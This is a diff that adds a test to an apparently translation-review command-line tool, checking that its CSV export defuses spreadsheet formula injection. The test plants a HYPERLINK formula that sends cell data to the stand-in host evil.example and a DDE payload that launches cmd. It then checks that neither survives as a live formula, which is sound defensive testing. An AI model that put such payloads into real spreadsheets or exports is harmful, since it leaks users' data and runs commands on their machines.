@@ -7,6 +7,8 @@ the honest sample translations raise nothing new.
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from pathlib import Path
 
@@ -242,3 +244,26 @@ def test_brackets_in_a_translation_or_reason_are_printed_as_they_are(tmp_path: P
     assert again.exit_code == 0 and "[/]" in again.stdout and "[red]" in again.stdout
     assert run(root, "render", "--country", "DE").exit_code == 0
     assert run(root, "check", "--country", "DE").exit_code in (0, 1)
+
+
+def test_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path, run) -> None:
+    """A translation or a reason that starts like a formula is exported as text (a leading
+    apostrophe), so opening the queue in Excel or LibreOffice runs nothing."""
+    root = copy_project(tmp_path / "proj")
+    path, catalog, entry = _risk_paragraph(root)
+    entry.msgstr = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+    catalog.save(str(path))
+    item = entry_id("de", MT, entry.msgctxt, entry.msgid)
+    rejected = run(
+        root, "reject", "--locale", "de", item, "--reason", "@SUM(1+1)*cmd|' /C calc'!A0"
+    )
+    assert rejected.exit_code == 0, rejected.output
+    exported = run(
+        root, "queue", "--locale", "de", "--article", MT, "--state", "all", "--format", "csv"
+    )
+    assert exported.exit_code == 0, exported.output
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(exported.stdout))}
+    assert rows[item]["msgstr"] == "'" + entry.msgstr
+    assert rows[item]["reason"].endswith("@SUM(1+1)*cmd|' /C calc'!A0")
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not any(cell.startswith(starts) for row in rows.values() for cell in row.values())
